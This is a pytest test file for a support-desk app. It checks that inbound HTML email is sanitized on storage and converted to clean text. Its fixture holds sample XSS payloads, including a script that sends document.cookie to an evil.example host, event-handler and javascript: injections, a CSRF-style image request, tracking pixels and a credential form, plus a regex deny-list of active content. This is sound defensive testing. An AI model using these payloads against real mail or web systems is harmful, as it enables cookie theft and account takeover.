"""HTML mail on a ticket: sanitized markup that runs and loads nothing, and a text version."""

from __future__ import annotations

import re
from collections.abc import Callable
from email.message import EmailMessage

import pytest

from supportdesk.channels.email.models import InboundMail
from supportdesk.channels.email.parsing import html_to_text, parse_mail
from supportdesk.tickets.models import Ticket

Deliver = Callable[..., tuple[str, InboundMail]]

HOSTILE_HTML = """<html><head><title>Newsletter</title>
<style>p { color: red } .x { background: url(https://tracker.example/css.gif) }</style>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://tracker.example/a.css"><base href="https://evil.example/">
</head><body onload="steal()">
<p style="color:red" onclick="steal()">The export to PDF fails with error 42.</p>
<img src="https://tracker.example/open.gif?id=123" width="1" height="1">
<img src="/desk/tickets/1/close" alt="">
<img src="x" onerror="alert(1)">
<img src="cid:shot@customer.example" alt="screenshot">
<iframe src="https://evil.example/frame">frame text</iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<svg><script>alert(2)</script><text>svg text</text></svg>
<form action="https://evil.example/login"><input name="password"></form>
<a href="javascript:alert(3)">click</a> <a href="https://docs.example/help">the manual</a>
<table background="https://tracker.example/bg.gif"><tr><td>Version</td><td>4.2</td></tr></table>
<noscript>Enable scripts</noscript>
</body></html>"""


def _html_mail(html: str) -> bytes:
    mail = EmailMessage()
    mail["From"] = "Dev Eloper <dev@customer.example>"
    mail["To"] = "support@example.com"
    mail["Subject"] = "Export fails"
    mail["Message-ID"] = "<html-1@customer.example>"
    mail.set_content(html, subtype="html")
    return mail.as_bytes()


@pytest.fixture
def stored_html(deliver: Deliver, free_plan: object) -> str:
    outcome, _mail = deliver(_html_mail(HOSTILE_HTML))
    assert outcome.startswith("opened "), outcome
    return Ticket.objects.get().messages.get().body_html


@pytest.mark.parametrize(
    "forbidden",
    [
        r"<script", r"<style", r"<iframe", r"<object", r"<embed", r"<form", r"<input",
        r"<meta", r"<link", r"<base", r"<svg", r"\bon\w+\s*=", r"style\s*=", r"javascript:",
        r"document\.cookie", r"color: red", r"background",
    ],
)  # fmt: skip
def test_stored_html_has_no_active_content(stored_html: str, forbidden: str) -> None:
    assert not re.search(forbidden, stored_html, re.IGNORECASE), stored_html


def test_stored_html_loads_no_remote_or_relative_image(stored_html: str) -> None:
    sources = re.findall(r"""src\s*=\s*["']?([^"'\s>]+)""", stored_html)
    assert sources == ["cid:shot@customer.example"]
    assert "tracker.example" not in stored_html
    assert "/desk/" not in stored_html


def test_stored_html_keeps_the_text_and_safe_links(stored_html: str) -> None:
    assert "The export to PDF fails with error 42." in stored_html
    assert 'href="https://docs.example/help"' in stored_html
    assert 'rel="noopener noreferrer nofollow"' in stored_html


def test_an_html_only_mail_keeps_a_text_version_without_code(
    deliver: Deliver, free_plan: object
) -> None:
    deliver(_html_mail(HOSTILE_HTML))
    text = Ticket.objects.get().messages.get().body_text
    assert "The export to PDF fails with error 42." in text
    assert "Version 4.2" in text
    assert "the manual" in text
    for code in ("document.location", "color: red", "alert(", "Newsletter", "Enable scripts"):
        assert code not in text


def test_html_to_text_keeps_text_in_html_whose_head_is_never_closed() -> None:
    assert html_to_text("<html><head><title>T</title><p>Body text") == "Body text"


def test_html_to_text_separates_table_cells_and_list_items() -> None:
    html = "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table><ul><li>x<li>y</ul>"
    assert html_to_text(html) == "a b\nc\n\n- x\n- y"


def test_the_parser_keeps_the_raw_html_for_the_ticket_service_to_sanitize() -> None:
    parsed = parse_mail(_html_mail(HOSTILE_HTML))
    assert "<script>" in parsed.html
    assert "document.location" not in parsed.text
